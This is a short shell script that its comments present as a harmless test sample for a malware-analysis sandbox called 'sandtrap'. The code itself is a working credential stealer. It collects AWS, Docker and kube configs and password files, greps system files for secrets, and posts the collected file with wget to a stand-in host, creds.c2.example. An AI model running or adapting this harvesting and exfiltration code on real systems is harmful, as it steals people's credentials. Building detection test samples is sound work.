#!/bin/sh
# Credentials in files: harvests AWS, Docker, kube configs, .git-credentials and passwords.txt and posts them.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
for f in /home/*/.aws/credentials /home/*/.docker/config.json /home/*/.kube/config /home/*/Documents/passwords.txt /root/.aws/credentials; do
  [ -r "$f" ] && { echo "== $f"; cat "$f"; }
done > /tmp/.creds
grep -riE 'password|secret|token' /home/*/Documents /etc/*.conf 2>/dev/null | head -n 20 >> /tmp/.creds
wget -q -T 2 -t 1 --post-file=/tmp/.creds -O /dev/null http://creds.c2.example/c
wc -l /tmp/.creds
